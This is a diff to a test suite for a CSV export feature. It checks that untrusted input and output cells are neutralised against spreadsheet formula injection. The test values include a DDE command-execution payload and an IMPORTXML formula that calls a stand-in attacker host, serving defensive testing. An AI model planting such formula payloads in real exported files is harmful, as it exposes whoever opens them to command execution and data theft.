@@ -44,7 +44,7 @@ describe("CSV download", () => {
     expect(csv.headers.get("content-type")).toContain("text/csv");
     const parsed = Papa.parse<Record<string, string>>(csv.text, { header: true, newline: "\r\n", skipEmptyLines: true });
     expect(parsed.errors).toEqual([]);
-    expect(parsed.meta.fields).toEqual(["index", "id", "status", "summary", "score", "error_code", "error_message", "raw"]);
+    expect(parsed.meta.fields).toEqual(["index", "id", "text", "tag", "other_metadata", "status", "summary", "score", "error_code", "error_message", "raw"]);
     const byId = new Map(parsed.data.map((row) => [row.id, row]));
 
     const cell = (itemId: string) => byId.get(itemId)!.summary;
@@ -63,11 +63,24 @@ describe("CSV download", () => {
     expect(cell("x10")).toBe("'\r=2+3");
     expect(csv.text).toContain(`"'=1+1\nsecond line`);
 
+    // Item texts are untrusted too: the input column is neutralised the same way.
+    const input = (itemId: string) => byId.get(itemId)!.text;
+    expect(input("x1")).toBe("'=SUM(4, 12)");
+    expect(input("x2")).toBe("'+1+1");
+    expect(input("x4")).toBe("'@SUM(1)");
+    expect(input("x5")).toBe("'=1+1\nsecond line of a multi-line comment");
+    expect(input("x6")).toBe("'\t=cmd|' /C calc'!A0");
+    expect(input("x8")).toBe("'-12.5");
+    expect(input("x9")).toBe("Normal text with = inside");
+    expect(input("x10")).toBe("'\r=2+3");
+    expect(csv.text).toContain(`"'=SUM(4, 12)"`);
+
     // JSON and JSONL carry the exact strings.
     const { records } = await downloadJsonl(id);
     for (const item of payloads) {
       const record = records.find((candidate) => candidate.id === item.id);
       expect(record.output).toEqual(outputs.get(item.id) ?? { summary: item.text, score: 1 });
+      expect(record.input.text).toBe(item.text);
     }
     const json = await callApi("GET", `/api/batches/${id}/output?format=json`);
     expect(json.json.data[0].output.summary).toBe(`=IMPORTXML("http://attacker.example.invalid","//a")`);
